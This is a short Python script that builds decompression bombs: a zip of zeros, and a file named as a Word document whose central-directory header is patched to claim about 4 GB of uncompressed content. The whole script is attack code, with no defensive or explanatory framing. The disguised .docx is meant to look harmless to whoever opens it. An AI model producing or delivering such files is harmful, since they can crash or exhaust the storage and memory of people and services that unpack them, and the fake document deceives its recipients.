"""Small archives that unpack to gigabytes, one in the clothes of a Word document."""
import struct, zipfile
with zipfile.ZipFile('bomb.zip', 'w', zipfile.ZIP_DEFLATED) as archive:
    archive.writestr('zeros', bytes(50 << 20))
with zipfile.ZipFile('bomb.docx', 'w', zipfile.ZIP_DEFLATED) as archive:
    archive.writestr('word/document.xml', bytes(1 << 20))
data = bytearray(open('bomb.docx', 'rb').read())
at = data.index(b'PK\x01\x02')
data[at + 24 : at + 28] = struct.pack('<I', 0xF0000000)
open('bomb.docx', 'wb').write(data)
print('held')
